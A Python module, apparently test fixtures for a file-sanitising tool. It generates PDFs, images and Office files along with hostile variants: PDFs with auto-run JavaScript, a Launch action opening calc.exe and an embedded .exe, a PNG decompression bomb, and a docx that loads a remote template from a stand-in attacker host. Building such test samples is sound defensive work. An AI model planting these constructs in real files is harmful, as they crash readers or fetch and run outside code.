"""Files as programs really write them, and the same with something in them that must not be."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

GPS_IFD, MAKER, ORIENTATION = 0x8825, 0x010F, 0x0112


def pdf(
    pages: int = 1, change: Callable[[pikepdf.Pdf], None] | None = None, **save: object
) -> bytes:
    """A PDF of empty pages, ``change``d before it is written."""
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page()
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, deterministic_id="encryption" not in save, **save)
    return out.getvalue()


def with_script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def with_named_script(document: pikepdf.Pdf) -> None:
    action = document.make_indirect(Dictionary(S=Name.JavaScript, JS="1"))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", action])))


def with_launch(document: pikepdf.Pdf) -> None:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9])
    link.A = Dictionary(S=Name.Launch, F="calc.exe")
    document.pages[0].Annots = Array([link])


def with_attachment(document: pikepdf.Pdf) -> None:
    document.attachments["x.exe"] = b"MZ"


def with_xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp/>"))


def locked_pdf() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="o", user=""))


def jpeg(width: int = 300, height: int = 200, *, orientation: int = 1) -> bytes:
    """A photograph with maker, place and a comment in it."""
    image = Image.new("RGB", (width, height), "#1552A6")
    facts = image.getexif()
    facts[MAKER], facts[ORIENTATION] = "Camera", orientation
    facts.get_ifd(GPS_IFD)[2] = (36.0, 4.0, 0.0)
    out = io.BytesIO()
    image.save(out, "JPEG", exif=facts, comment=b"at home")
    return out.getvalue()


def png(width: int = 30, height: int = 20, mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, (width, height)).save(out, "PNG")
    return out.getvalue()


def png_bomb(side: int = 30_000) -> bytes:
    """900 megapixels in a hundred kilobytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    packer = zlib.compressobj(9)
    row = bytes(side // 8 + 1)
    rows = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


def office(part: str, more: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in ("[Content_Types].xml", part):
            archive.writestr(name, b"<x/>")
        for name, content in (more or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


def docx(more: dict[str, bytes] | None = None) -> bytes:
    return office("word/document.xml", more)


def xlsx(more: dict[str, bytes] | None = None) -> bytes:
    return office("xl/workbook.xml", more)


TEMPLATE_FROM_OUTSIDE = {
    "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="1" Type="x/attachedTemplate"'
    b' Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
}
